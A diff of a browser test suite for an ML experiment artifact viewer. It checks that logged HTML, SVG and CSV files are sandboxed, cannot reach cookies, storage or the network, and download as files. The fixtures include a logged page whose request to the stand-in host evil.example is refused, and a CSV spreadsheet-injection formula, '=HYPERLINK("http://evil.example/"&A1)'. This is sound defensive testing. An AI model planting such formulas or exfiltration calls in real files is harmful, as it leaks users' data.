@@ -1,6 +1,6 @@
 import { readFile } from "node:fs/promises";
 import { afterAll, beforeAll, expect, test } from "vitest";
-import { expectSound, type OpenedPage, type OurUi, startOurUi } from "./harness/our-ui.ts";
+import { expectSound, expectSoundInBothThemes, type OpenedPage, type OurUi, startOurUi } from "./harness/our-ui.ts";
 
 interface Seed {
   readonly experimentId: string;
@@ -30,7 +30,7 @@ async function openFile(path: string, search = ""): Promise<OpenedPage> {
 test("the tree by keys: down into folders, back up, letters; the address holds the file", async () => {
   const opened = await openFile("");
   const { page } = opened;
-  await page.getByRole("treeitem", { name: "nested" }).focus();
+  await page.getByRole("treeitem", { name: "nested", exact: true }).focus();
   await page.keyboard.press("ArrowRight");
   await page.getByRole("treeitem", { name: "deep" }).waitFor();
   await page.keyboard.press("ArrowRight");
@@ -48,20 +48,64 @@ test("the tree by keys: down into folders, back up, letters; the address holds t
   expect(await deep.page.getByRole("treeitem", { name: "MLmodel" }).getAttribute("aria-selected")).toBe("true");
 });
 
-test("a logged page runs in a sandbox, and reaches neither the UI nor a host", async () => {
+const ESCAPES = [
+  ...["parent", "top", "cookie", "storage", "database", "fetch", "write", "xhr", "socket", "image", "script"],
+  ...["eval", "worker", "popup"],
+];
+
+test("a logged page runs its scripts in a sandbox, and gets nowhere", async () => {
+  await ui.context.addCookies([{ name: "session", value: "secret", url: ui.server.url }]);
   const { page, trouble } = await openFile("page.html");
+  const dialogs: string[] = [];
+  const failures: (string | undefined)[] = [];
+  page.on("requestfailed", (request) => {
+    if (new URL(request.url()).hostname === "evil.example") failures.push(request.failure()?.errorText);
+  });
+  page.on("dialog", (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
   const frame = page.frameLocator("iframe");
-  await frame.getByRole("heading", { name: "ran" }).waitFor();
+  const refused = ESCAPES.map((way) => `${way} refused`).join(", ");
+  await frame.getByRole("heading", { name: refused, exact: true }).waitFor();
   expect(await page.locator("iframe").getAttribute("sandbox")).toBe("allow-scripts");
   expect(await page.title()).toMatch(/^files/);
-  expect(trouble.foreignRequests).toEqual([]);
-  // The one thing that was refused is what the logged page tried.
-  expect(trouble.cspViolations.filter((text) => !text.includes("connect-src 'none'"))).not.toContainEqual(
-    expect.stringContaining("script-src 'self'"),
-  );
+  expect(page.url()).toContain("path=page.html");
+  expect(dialogs).toEqual([]);
+  // The only one that was thought of was refused before it left.
+  expect(trouble.foreignRequests).toEqual([expect.stringContaining("http://evil.example/")]);
+  expect(failures).toEqual(["csp"]);
+  const answer = await fetch(`${ui.server.url}/api/2.0/mlflow/experiments/get-by-name?experiment_name=hacked`);
+  expect(answer.status).toBe(404);
   await page.getByRole("button", { name: "Source" }).click();
   await page.getByText("<h1 id=h>plot</h1>").waitFor();
+  expect(page.url()).toContain("show=source");
 });
+
+test("opened by itself, a logged page is no part of the UI either", async () => {
+  const page = await ui.context.newPage();
+  await page.goto(`${ui.server.url}/ui-api/preview?run_id=${ui.seed.run}&path=page.html`);
+  const heading = page.getByRole("heading");
+  await expect.poll(() => heading.textContent()).toContain("fetch refused");
+  expect(await heading.textContent()).toContain("cookie refused");
+  expect(await heading.textContent()).toContain("write refused");
+  expect(await page.evaluate("origin")).toBe("null");
+  await page.close();
+});
+
+test.each(["page.html", "evil.svg", "doc.pdf", "readme.md"])(
+  "%s asked for as a file is only a download",
+  async (path) => {
+    const page = await ui.context.newPage();
+    const [download] = await Promise.all([
+      page.waitForEvent("download"),
+      page.goto(`${ui.server.url}/get-artifact?run_uuid=${ui.seed.run}&path=${path}`).catch(() => undefined),
+    ]);
+    expect(download.suggestedFilename()).toBe(path);
+    expect(page.url()).toBe("about:blank");
+    await page.close();
+  },
+);
 
 test.each([
   ["evil.svg", "40 × 40 px"],
@@ -71,10 +115,26 @@ test.each([
   ["nothing.txt", "The file is empty."],
   ["plot.png", "32 × 32 px"],
   ["doc.pdf", "1 page"],
-])("%s is shown, and nothing of it runs", async (path, text) => {
+  ["train.py", "for a while."],
+  ["broken.wav", "The sound could not be played"],
+])("%s is shown in light and dark, and nothing of it runs", async (path, text) => {
   const opened = await openFile(path);
   await opened.page.locator("main").getByText(text, { exact: false }).last().waitFor();
   expect(await opened.page.title()).toMatch(/^files/);
+  expect(await opened.page.locator("main :is(script, iframe, object, embed)").count()).toBe(0);
+  await expectSoundInBothThemes(opened);
+});
+
+test("a formula in a CSV is text, and the download is what was logged", async () => {
+  const opened = await openFile("formula.csv");
+  const { page } = opened;
+  const formula = '=HYPERLINK("http://evil.example/"&A1)';
+  await page.getByRole("cell", { name: formula }).waitFor();
+  const [download] = await Promise.all([
+    page.waitForEvent("download"),
+    page.getByRole("link", { name: "Download" }).click(),
+  ]);
+  expect(await readFile(await download.path(), "utf8")).toBe(`a,b\n1,"${formula.replaceAll('"', '""')}"\n`);
   await expectSound(opened);
 });
 
@@ -116,6 +176,9 @@ test("tables: TSV with quotes, Parquet, and a CSV of 50 MB at once", async () =>
   await parquet.page.getByRole("row", { name: "0 row 0" }).waitFor();
   await parquet.page.getByText("of 5,000 rows").waitFor();
   await expectSound(parquet);
+  const nested = await openFile("nested.parquet");
+  await nested.page.getByRole("row", { name: '[1,2] {"a":1}' }).waitFor();
+  await expectSound(nested);
   const large = await openFile("large.csv");
   await large.page.getByRole("row", { name: /^5 0\.123/ }).waitFor();
   await large.page.getByText("rows loaded").waitFor();
@@ -125,27 +188,122 @@ test("tables: TSV with quotes, Parquet, and a CSV of 50 MB at once", async () =>
   await expectSound(large);
 });
 
-test("a log: its start, and its end", async () => {
+test("a large Parquet shows its first rows from a part of it, and more by scrolling", async () => {
+  const { page } = await openFile("");
+  const read: number[] = [];
+  page.on("response", async (response) => {
+    if (response.url().includes("large.parquet")) read.push(Number(response.headers()["content-length"]));
+  });
+  await page.getByRole("treeitem", { name: "large.parquet" }).click();
+  await page.getByText("1,000 of 400,000 rows").waitFor();
+  const size = Number(
+    (await page.getByRole("treeitem", { name: "large.parquet" }).textContent())?.match(/([\d.]+) MB/)?.[1],
+  );
+  expect(read.reduce((sum, bytes) => sum + bytes, 0) / 1_000_000).toBeLessThan(size);
+  await page.getByRole("region", { name: "Table" }).focus();
+  await page.keyboard.press("End");
+  await page.getByText("2,000 of 400,000 rows").waitFor();
+});
+
+test("a large log: its start, any place of it, and its end", async () => {
   const opened = await openFile("log.txt");
   const { page } = opened;
   await page.getByText("line 5", { exact: true }).waitFor();
   expect(await page.getByText(/^line \d+$/).count()).toBeLessThan(200);
+  await page.getByRole("slider", { name: "Place in the file" }).fill("500");
+  await page.getByText(/of 5\.9 MB, from 2\.9 MB on/).waitFor();
+  await page
+    .getByText(/^line 2[45]\d{4}$/)
+    .first()
+    .waitFor();
+  expect(page.url()).toMatch(/from=29\d{5}/);
+  await page.reload();
+  await page
+    .getByText(/^line 2[45]\d{4}$/)
+    .first()
+    .waitFor();
   await page.getByRole("button", { name: "The end" }).click();
-  await page.getByText("line 199999", { exact: true }).waitFor();
+  await page.getByText("line 499999", { exact: true }).waitFor();
   await expectSound(opened);
 });
 
-test("images by step, of two runs side by side", async () => {
-  const opened = await openFile("images", `&runs=${ui.seed.other}`);
+test("a log is followed as it grows", async () => {
+  const opened = await openFile("train.log");
+  const { page } = opened;
+  await page.getByText("first", { exact: true }).waitFor();
+  await page.getByRole("button", { name: "The end" }).click();
+  await page.getByRole("switch", { name: "Follow" }).click();
+  const stored = `${ui.seed.experimentId}/${ui.seed.run}/artifacts/train.log`;
+  const answer = await fetch(`${ui.server.url}/api/2.0/mlflow-artifacts/artifacts/${stored}`, {
+    method: "PUT",
+    body: "first\n2025-10-09 12:00:00 ERROR second\n",
+  });
+  expect(answer.status).toBe(200);
+  await page.getByText("2025-10-09 12:00:00 ERROR second", { exact: true }).waitFor();
+  await expectSound(opened);
+});
+
+test("sound is read from where it is played", async () => {
+  const opened = await openFile("sound.wav");
+  const { page } = opened;
+  const ranges: string[] = [];
+  page.on("request", (request) => ranges.push(request.headers().range ?? ""));
+  const seek = `new Promise((done) => {
+    const sound = document.querySelector("audio");
+    const go = () => { sound.addEventListener("seeked", () => done(sound.duration)); sound.currentTime = 590 };
+    if (sound.readyState > 0) go(); else sound.addEventListener("loadedmetadata", go);
+  })`;
+  await page.locator("audio").waitFor();
+  expect(await page.evaluate(seek)).toBe(600);
+  await expect.poll(() => ranges.some((range) => /^bytes=9\d{6}-/.test(range))).toBe(true);
+  await expectSound(opened);
+});
+
+test("a folder is open in the tree, registers its model, and is downloaded as a ZIP", async () => {
+  const opened = await openFile("nested/deep/er");
+  const { page } = opened;
+  const folder = page.getByRole("treeitem", { name: "er", exact: true });
+  await page.getByRole("treeitem", { name: "MLmodel" }).waitFor();
+  expect(await folder.getAttribute("aria-expanded")).toBe("true");
+  await page.getByRole("button", { name: "MLmodel" }).waitFor();
+  const [download] = await Promise.all([
+    page.waitForEvent("download"),
+    page.getByRole("button", { name: "Download", exact: true }).click(),
+  ]);
+  expect(download.suggestedFilename()).toBe("er.zip");
+  const bytes = (await readFile(await download.path())).toString("latin1");
+  expect(bytes).toContain("er/MLmodelartifact_path: model");
+  await page.getByRole("button", { name: "Register the model" }).click();
+  await page.getByRole("dialog").getByText("nested/deep/er").waitFor();
+  await page.getByLabel("Model", { exact: true }).fill("from-folder");
+  await page.getByRole("button", { name: "Register", exact: true }).click();
+  await page.getByText("Registered version 1 of from-folder.").waitFor();
+  await expectSound(opened);
+});
+
+test("images by step, beside those of runs that are chosen by keys", async () => {
+  const opened = await openFile("images");
   const { page } = opened;
   await page.getByRole("heading", { name: "val/sample" }).waitFor();
   await page.getByText("Step 20", { exact: true }).waitFor();
+  await page.getByRole("button", { name: "Other runs" }).press("Enter");
+  await page.getByRole("searchbox", { name: "Find a run by its name" }).fill("OTH");
+  await page.getByRole("checkbox", { name: "no files" }).waitFor({ state: "detached" });
+  await page.getByRole("checkbox", { name: "other" }).press("Space");
+  await page.keyboard.press("Escape");
   await page.getByRole("img", { name: "val/sample, step 20" }).nth(1).waitFor();
   await page.getByRole("slider", { name: "Step" }).focus();
   await page.keyboard.press("ArrowLeft");
   await page.getByRole("img", { name: "val/sample, step 10" }).nth(1).waitFor();
   expect(page.url()).toContain("step=10");
-  await page.getByText("other").waitFor();
+  await expectSoundInBothThemes(opened);
+  // Another image beside the same run's.
+  await page.getByRole("treeitem", { name: "plots" }).click();
+  await page.getByRole("treeitem", { name: "one.png" }).click();
+  await page.getByRole("img", { name: "plots/one.png" }).nth(1).waitFor();
+  expect(page.url()).toContain(`runs=${ui.seed.other}`);
+  await page.setViewportSize({ width: 390, height: 844 });
+  expect(await page.evaluate("document.documentElement.scrollWidth")).toBe(390);
   await expectSound(opened);
 });
 
